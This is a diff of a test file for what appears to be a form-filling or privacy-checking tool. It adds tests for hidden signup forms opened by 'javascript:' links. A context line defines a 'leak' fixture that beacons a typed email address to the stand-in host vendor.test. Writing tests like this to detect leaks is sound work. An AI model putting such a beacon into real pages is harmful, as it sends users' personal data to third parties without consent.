@@ -33,6 +33,20 @@ test('a form in a tab, and one in a fold', async () => {
   expect(results(run)).toEqual(['empty refused-by-browser', 'full stopped']);
 });
 
+for (const [what, link] of [
+  ['names it', '<a href="javascript:;" data-src="#gift" id="open">Give monthly</a>'],
+  ['says nothing of it', '<a href="javascript:void(0)" id="open">Give monthly</a>'],
+] as const)
+  test(`a form that a link to nowhere opens, which ${what} (fancybox)`, async () => {
+    const page = formPage(
+      `<p><a href="/about">About us</a> ${link}</p><div id="gift" style="display:none"><form action="/join" method="post">${email}<button>Start my gift</button></form></div>`,
+      `document.getElementById('open').onclick = () => { gift.style.display = 'block'; };`,
+    );
+    const run = await fillOn(serve(page));
+    expect(typed(run)).toEqual(['#email email']);
+    expect(results(run)).toEqual(['empty refused-by-browser', 'full stopped']);
+  });
+
 test('a page one of whose pictures never comes, as where a tracker is out of order, and that page with a leak', async () => {
   const body = `<form action="/join" method="post">${email}<button>Subscribe</button></form><img src="https://collector.example/never.gif">`;
   const leak = `document.getElementById('email').onchange = e => navigator.sendBeacon('https://vendor.test/b', e.target.value);`;
